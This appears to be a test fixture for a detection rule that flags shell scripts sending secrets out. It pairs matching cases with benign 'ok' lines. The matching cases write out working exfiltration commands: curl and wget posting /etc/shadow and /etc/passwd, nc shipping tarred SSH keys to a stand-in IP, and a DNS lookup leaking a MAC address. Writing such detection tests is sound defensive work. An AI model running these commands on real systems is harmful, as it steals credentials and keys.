# ruleid: secret-sent-by-script
curl -s -d "$(cat /etc/shadow)" http://198.51.100.4/u

# ruleid: secret-sent-by-script
tar cz /home/app/.ssh/ /etc/config/wireless | nc 203.0.113.8 9000

# ruleid: secret-sent-by-script
mac=$(cat /sys/class/net/eth0/address | tr -d :)
logger start
nslookup "$mac.t.example.org" > /dev/null

# ruleid: secret-sent-by-script
wget -q --post-file=/etc/passwd -O /dev/null "$where"

# ok: secret-sent-by-script
curl -s https://example.net/list > /tmp/list
# ok: secret-sent-by-script
cat /etc/passwd | cut -d: -f1
# ok: secret-sent-by-script
name=$(hostname)
ping -c1 "$name"
